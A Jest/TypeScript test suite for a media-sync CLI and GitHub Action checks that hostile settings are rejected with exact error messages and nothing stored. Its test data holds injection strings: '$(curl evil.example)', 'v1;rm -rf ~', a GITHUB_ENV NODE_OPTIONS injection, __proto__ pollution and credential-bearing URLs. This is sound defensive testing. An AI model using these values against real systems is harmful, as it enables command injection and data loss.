import { existsSync, mkdirSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import pLimit from 'p-limit';
import { copyExampleMedia, tempDir } from './helpers/fixtures.js';
import { runAction, runActionAsync, runCli, runCliAsync, type ActionRun, type Run } from './helpers/run.js';

// Hostile settings through the real CLI and the real action entry, compiled from this checkout
// (dist/ is rebuilt only at release): each is refused with exactly the message below and exit
// code 1, and nothing is stored, no manifest written, no output set.

const URL_ALLOWED = 'an http:// or https:// URL of ASCII letters, digits and - . _ ~ : / (no user:pass@, query, fragment or IPv6 literal)';
const BUSTER_ALLOWED = '1 to 64 ASCII letters, digits and . _ -, starting with a letter or digit, or a whole number from 0';
const PREFIX_ALLOWED = 'a relative key path without a leading slash, backslashes, or . and .. segments, of ASCII letters, digits, spaces and - . _ ~ / # +';
const PATH_CHARS = 'ASCII letters, digits and - . _ ~ / +';
const MEDIA_URL_ALLOWED = 'a URL path such as /devmedia/ (one leading slash: //host/ is another site) or an http(s):// URL, of ASCII letters, digits and - . _ ~ : /';
const SECRET = 'hunter2-Secret';

/** Every case starts from this working mediasync.json (keys at lines 2 to 5), then adds its own from line 6. */
const BASE = { MEDIA_ROOT: 'media', BACKEND: 'filesystem', FILESYSTEM_ROOT: 'store', MANIFEST_PATH: 'manifest.json' };

interface Case {
  name: string;
  /** Settings after BASE (an existing key keeps its line). */
  settings?: Record<string, unknown>;
  /** mediasync.json's bytes instead. */
  raw?: string | Buffer;
  /** Action inputs: such a case runs through the action only. */
  inputs?: Record<string, string>;
  arrange?: (media: string) => void;
  /** The whole message after `mediasync: ` (CLI) or `::error::` (action). */
  message: string;
}

const one = (problem: string) => `Invalid settings (1 problem):\n  - ${problem}`;
const json = (value: unknown) => JSON.stringify({ ...BASE, ...(value as object) }, null, 2);

const CASES: Case[] = [
  { name: 'CACHE_BUSTER running a command', settings: { CACHE_BUSTER: '$(touch pwned)' }, message: one(`mediasync.json:6:3: CACHE_BUSTER is "$(touch pwned)"; allowed: ${BUSTER_ALLOWED}`) },
  { name: 'CACHE_BUSTER in backticks', settings: { CACHE_BUSTER: '`id`' }, message: one(`mediasync.json:6:3: CACHE_BUSTER is "\`id\`"; allowed: ${BUSTER_ALLOWED}`) },
  { name: 'CACHE_BUSTER chaining a command', settings: { CACHE_BUSTER: 'v1;rm -rf ~' }, message: one(`mediasync.json:6:3: CACHE_BUSTER is "v1;rm -rf ~"; allowed: ${BUSTER_ALLOWED}`) },
  { name: 'CACHE_BUSTER adding a line to GITHUB_ENV', settings: { CACHE_BUSTER: 'v1\nNODE_OPTIONS=--require=/tmp/x' }, message: one(`mediasync.json:6:3: CACHE_BUSTER is "v1\\nNODE_OPTIONS=--require=/tmp/x"; allowed: ${BUSTER_ALLOWED}`) },
  { name: 'CACHE_BUSTER of 65 characters', settings: { CACHE_BUSTER: 'a'.repeat(65) }, message: one(`mediasync.json:6:3: CACHE_BUSTER is "${'a'.repeat(65)}"; allowed: ${BUSTER_ALLOWED}`) },
  { name: 'CACHE_BUSTER a negative number', settings: { CACHE_BUSTER: -1 }, message: one(`mediasync.json:6:3: CACHE_BUSTER is -1; allowed: ${BUSTER_ALLOWED}`) },
  { name: 'CACHE_BUSTER an option', settings: { CACHE_BUSTER: '-n' }, message: one(`mediasync.json:6:3: CACHE_BUSTER is "-n"; allowed: ${BUSTER_ALLOWED}`) },
  { name: 'CACHE_BUSTER in full-width digits', settings: { CACHE_BUSTER: 'ｖ１' }, message: one(`mediasync.json:6:3: CACHE_BUSTER is "ｖ１"; allowed: ${BUSTER_ALLOWED}`) },
  { name: 'CACHE_BUSTER an object', settings: { CACHE_BUSTER: { toString: 'x' } }, message: one(`mediasync.json:6:3: CACHE_BUSTER is {"toString":"x"}; allowed: ${BUSTER_ALLOWED}`) },
  { name: 'REMOTE_MEDIA_URL running a command', settings: { REMOTE_MEDIA_URL: 'https://cdn.example.com/$(id)' }, message: one(`mediasync.json:6:3: REMOTE_MEDIA_URL is "https://cdn.example.com/$(id)"; allowed: ${URL_ALLOWED}`) },
  {
    name: 'REMOTE_MEDIA_URL with a password',
    settings: { REMOTE_MEDIA_URL: `https://deploy:${SECRET}@cdn.example.com/m` },
    message: one(`mediasync.json:6:3: REMOTE_MEDIA_URL holds an @, as in user:pass@ (value not shown); allowed: ${URL_ALLOWED}`)
  },
  { name: 'REMOTE_MEDIA_URL with a query', settings: { REMOTE_MEDIA_URL: 'https://cdn.example.com/m?a=1&b=2' }, message: one(`mediasync.json:6:3: REMOTE_MEDIA_URL is "https://cdn.example.com/m?…"; allowed: ${URL_ALLOWED}`) },
  { name: 'REMOTE_MEDIA_URL not http', settings: { REMOTE_MEDIA_URL: 'javascript:alert(1)' }, message: one(`mediasync.json:6:3: REMOTE_MEDIA_URL is "javascript:alert(1)"; allowed: ${URL_ALLOWED}`) },
  {
    name: 'AWS_ENDPOINT with a password',
    settings: { AWS_ENDPOINT: `http://AKIAEXAMPLE:${SECRET}@127.0.0.1:9000` },
    message: one(`mediasync.json:6:3: AWS_ENDPOINT holds an @, as in user:pass@ (value not shown); allowed: ${URL_ALLOWED}`)
  },
  { name: 'AWS_ENDPOINT with an impossible port', settings: { AWS_ENDPOINT: 'http://127.0.0.1:99999' }, message: one(`mediasync.json:6:3: AWS_ENDPOINT is not a URL that parses (check the host and port); allowed: ${URL_ALLOWED}`) },
  { name: 'AWS_ENDPOINT without a host', settings: { AWS_ENDPOINT: 'http://' }, message: one(`mediasync.json:6:3: AWS_ENDPOINT is "http://"; allowed: ${URL_ALLOWED}`) },
  { name: 'AWS_ENDPOINT an IPv6 literal', settings: { AWS_ENDPOINT: 'http://[::1]:9000' }, message: one(`mediasync.json:6:3: AWS_ENDPOINT is "http://[::1]:9000"; allowed: ${URL_ALLOWED}`) },
  { name: 'MEDIA_URL with a space', settings: { MEDIA_URL: '/dev media/' }, message: one(`mediasync.json:6:3: MEDIA_URL is "/dev media/"; allowed: ${MEDIA_URL_ALLOWED}`) },
  { name: 'MEDIA_URL closing a quote', settings: { MEDIA_URL: "/x';id;'" }, message: one(`mediasync.json:6:3: MEDIA_URL is "/x';id;'"; allowed: ${MEDIA_URL_ALLOWED}`) },
  { name: 'AWS_PREFIX running a command', settings: { AWS_PREFIX: 'v1/$(id)' }, message: one(`mediasync.json:6:3: AWS_PREFIX is "v1/$(id)"; allowed: ${PREFIX_ALLOWED}`) },
  { name: 'AWS_PREFIX with a quote', settings: { AWS_PREFIX: "it's" }, message: one(`mediasync.json:6:3: AWS_PREFIX is "it's"; allowed: ${PREFIX_ALLOWED}`) },
  { name: 'MANIFEST_PATH running a command', settings: { MANIFEST_PATH: 'out/$(id).json' }, message: one(`mediasync.json:5:3: MANIFEST_PATH is "out/$(id).json"; allowed: a file path of ${PATH_CHARS}`) },
  { name: 'MANIFEST_PATH with a space', settings: { MANIFEST_PATH: 'my manifest.json' }, message: one(`mediasync.json:5:3: MANIFEST_PATH is "my manifest.json"; allowed: a file path of ${PATH_CHARS}`) },
  { name: 'FILESYSTEM_ROOT chaining a command', settings: { FILESYSTEM_ROOT: 'store;id' }, message: one(`mediasync.json:4:3: FILESYSTEM_ROOT is "store;id"; allowed: a folder path outside MEDIA_ROOT, of ${PATH_CHARS}`) },
  { name: 'AWS_REGION closing a quote', settings: { AWS_REGION: 'eu-west-1"' }, message: one('mediasync.json:6:3: AWS_REGION is "eu-west-1\\""; allowed: a region name such as eu-west-1 or auto') },
  { name: 'AWS_BUCKET running a command', settings: { AWS_BUCKET: 'b$(id)' }, message: one('mediasync.json:6:3: AWS_BUCKET is "b$(id)"; allowed: a bucket name: 3 to 63 lowercase letters, digits, dots and hyphens') },
  {
    name: 'AWS_KEY with a line break, never shown',
    settings: { AWS_KEY: `AKIA\n${SECRET}`, AWS_SECRET: SECRET },
    message: one('mediasync.json:6:3: AWS_KEY is not valid (value hidden); allowed: an access key id: printable ASCII without spaces')
  },
  { name: 'MEDIA_ROOT with a NUL byte', settings: { MEDIA_ROOT: 'media\u0000' }, message: one('mediasync.json:2:3: MEDIA_ROOT is "media\\u0000"; allowed: a path to an existing folder') },
  { name: 'JOINED part as an object', settings: { JOINED: { 'all.js': [{ path: 'a.js' }] } }, message: one('mediasync.json:6:3: JOINED is {"all.js":[{"path":"a.js"}]}; allowed: an object mapping an alias ending in .css or .js to a non-empty list of relative paths') },
  {
    name: 'a huge value, shown cut short',
    settings: { DOCTYPE: 'x'.repeat(1_000_000) },
    message: one(`mediasync.json:6:3: DOCTYPE is "${'x'.repeat(79)}… (1000002 characters of JSON); allowed: html4, html5, xhtml`)
  },
  {
    name: 'a setting given twice',
    raw: '{\n  "MEDIA_ROOT": "media",\n  "BACKEND": "filesystem",\n  "FILESYSTEM_ROOT": "store",\n  "BACKEND": "dummy"\n}',
    message: one('mediasync.json:5:3: BACKEND is set twice, at mediasync.json:3:3 and at mediasync.json:5:3; allowed: each setting once')
  },
  {
    name: 'a JOINED alias given twice',
    raw: '{"MEDIA_ROOT": "media", "BACKEND": "filesystem", "FILESYSTEM_ROOT": "store",\n "JOINED": {"all.css": ["styles/reset.css"], "all.css": ["styles/text.css"]}}',
    message: one('mediasync.json:2:46: JOINED has "all.css" twice, at mediasync.json:2:13 and at mediasync.json:2:46; allowed: each key once')
  },
  {
    name: '__proto__ smuggling a setting',
    raw: '{"MEDIA_ROOT": "media", "BACKEND": "filesystem", "FILESYSTEM_ROOT": "store", "__proto__": {"CACHE_BUSTER": "$(id)"}}',
    message: one('mediasync.json:1:78: __proto__ is not a mediasync setting')
  },
  {
    name: 'an unknown key that would clear the terminal',
    raw: '{"MEDIA_ROOT": "media", "BACKEND": "filesystem", "FILESYSTEM_ROOT": "store", "\\u001b[2J": 1}',
    message: one('mediasync.json:1:78: "\\u001b[2J" is not a mediasync setting')
  },
  {
    name: 'a file saved as UTF-16',
    raw: Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(json({}), 'utf16le')]),
    message: 'config mediasync.json is not UTF-8 text; allowed: a JSON file saved as UTF-8 (a byte order mark is fine)'
  },
  {
    name: 'a key over 1,024 bytes from AWS_PREFIX',
    settings: { AWS_PREFIX: 'p'.repeat(1000) },
    message:
      "1 key is over S3's limit of 1024 bytes: .mediasync/sync-manifest.json.gz (1033 bytes); a key is AWS_PREFIX (1001 bytes with its slash) and the path; allowed: at most 1024 bytes of UTF-8 in all"
  },
  {
    name: 'a key over 1,024 bytes from a deep folder',
    arrange: (media) => {
      const deep = path.join(media, ...Array.from({ length: 5 }, (_, index) => `${index}`.repeat(210)));
      mkdirSync(deep, { recursive: true });
      writeFileSync(path.join(deep, 'deep.txt'), 'deep');
    },
    message: `1 key is over S3's limit of 1024 bytes: ${Array.from({ length: 5 }, (_, index) => `${index}`.repeat(210)).join('/')}/deep.txt (1063 bytes); a key is AWS_PREFIX (0 bytes with its slash) and the path; allowed: at most 1024 bytes of UTF-8 in all`
  },
  { name: 'input cache-buster running a command', inputs: { 'cache-buster': '$(curl evil.example)' }, message: one(`input cache-buster: CACHE_BUSTER is "$(curl evil.example)"; allowed: ${BUSTER_ALLOWED}`) },
  {
    name: 'input aws-endpoint with a password',
    inputs: { 'aws-endpoint': `https://key:${SECRET}@r2.example.com` },
    message: one(`input aws-endpoint: AWS_ENDPOINT holds an @, as in user:pass@ (value not shown); allowed: ${URL_ALLOWED}`)
  },
  { name: 'input remote-media-url in backticks', inputs: { 'remote-media-url': 'https://cdn.example.com/`id`' }, message: one(`input remote-media-url: REMOTE_MEDIA_URL is "https://cdn.example.com/\`id\`"; allowed: ${URL_ALLOWED}`) },
  {
    name: 'input joined with an alias given twice',
    inputs: { joined: '{"a.css": ["styles/reset.css"], "a.css": ["styles/text.css"]}' },
    message: one('input joined:1:33: JOINED has "a.css" twice, at input joined:1:2 and at input joined:1:33; allowed: each key once')
  },
  { name: 'input manifest-path with a space', inputs: { 'manifest-path': 'my manifest.json' }, message: one(`input manifest-path: MANIFEST_PATH is "my manifest.json"; allowed: a file path of ${PATH_CHARS}`) }
];

type Shell = 'cli' | 'action';

interface Outcome {
  run: Run & Partial<Pick<ActionRun, 'outputs'>>;
  stored: string[];
  manifest: boolean;
}

const outcomes = new Map<string, Outcome>();
const shellsOf = (testCase: Case): Shell[] => (testCase.inputs ? ['action'] : ['cli', 'action']);

/** One case in one shell, in its own folder: what it printed, and what it left in the store. */
async function attempt(testCase: Case, shell: Shell): Promise<void> {
  const scratch = tempDir();
  try {
    const media = copyExampleMedia(scratch.dir);
    testCase.arrange?.(media);
    writeFileSync(path.join(scratch.dir, 'mediasync.json'), testCase.raw ?? json(testCase.settings ?? {}));
    const options = { cwd: scratch.dir };
    const run = shell === 'cli' ? await runCliAsync(['sync'], options) : await runActionAsync(testCase.inputs ?? {}, options);
    outcomes.set(`${testCase.name}|${shell}`, {
      run,
      stored: filesUnder(path.join(scratch.dir, 'store')),
      manifest: existsSync(path.join(scratch.dir, 'manifest.json'))
    });
  } finally {
    scratch.remove();
  }
}

// The runs are independent child processes: a few at a time keeps the wall time down.
beforeAll(async () => {
  const limit = pLimit(4);
  await Promise.all(CASES.flatMap((testCase) => shellsOf(testCase).map((shell) => limit(() => attempt(testCase, shell)))));
}, 600_000);

/** Every file under a folder, relative to it; none when it does not exist. */
function filesUnder(dir: string): string[] {
  if (!existsSync(dir)) return [];
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((entry) => !entry.isDirectory())
    .map((entry) => path.relative(dir, path.join(entry.parentPath, entry.name)));
}

/** The text of the runner's `::error …::` command, decoded. */
function actionError(stdout: string): string {
  const line = stdout.split('\n').find((candidate) => candidate.startsWith('::error'));
  return (line ?? '').replace(/^::error[^:]*::/, '').replace(/%0A/g, '\n').replace(/%0D/g, '\r').replace(/%25/g, '%');
}

describe.each(CASES)('$name', (testCase) => {
  test.each(shellsOf(testCase))('%s: refused with exactly this message, exit 1, nothing stored or written', (shell) => {
    const { run, stored, manifest } = outcomes.get(`${testCase.name}|${shell}`)!;
    expect(shell === 'cli' ? run.stderr : actionError(run.stdout)).toBe(shell === 'cli' ? `mediasync: ${testCase.message}\n` : testCase.message);
    expect(run.status).toBe(1);
    expect(run.stdout + run.stderr).not.toContain(SECRET);
    if (shell === 'action') expect(run.outputs).toEqual({});
    expect({ stored, manifest }).toEqual({ stored: [], manifest: false });
  });
});

// The control: the same harness sees a store written and outputs set when the settings are fine,
// here with a byte order mark at the start of the file.
test('a file with a UTF-8 byte order mark syncs, and the harness sees the store and outputs', () => {
  const scratch = tempDir();
  try {
    copyExampleMedia(scratch.dir);
    writeFileSync(path.join(scratch.dir, 'mediasync.json'), `\uFEFF${json({ CACHE_BUSTER: 'v2.1', AWS_PREFIX: 'odd #1/v 2' })}`);
    const cli = runCli(['sync'], { cwd: scratch.dir });
    expect([cli.status, cli.stderr]).toEqual([0, '']);
    expect(cli.stdout).toContain('\ncache-buster: v2.1\n');
    expect(filesUnder(path.join(scratch.dir, 'store', 'odd #1', 'v 2'))).toContain('images/logo.png');
    rmSync(path.join(scratch.dir, 'store'), { recursive: true });
    const action = runAction({ 'cache-buster': 'v2.2' }, { cwd: scratch.dir });
    expect(action.status).toBe(0);
    expect(action.outputs['cache-buster']).toBe('v2.2');
    expect(action.outputs['media-url']).toMatch(/^file:\/\/\/[A-Za-z0-9._~:/%+-]+\/store\/odd%20%231\/v%202$/);
    expect(filesUnder(path.join(scratch.dir, 'store'))).not.toEqual([]);
  } finally {
    scratch.remove();
  }
});

test(`the table holds at least 30 cases through the CLI`, () => {
  expect(CASES.filter((testCase) => !testCase.inputs).length).toBeGreaterThanOrEqual(30);
});
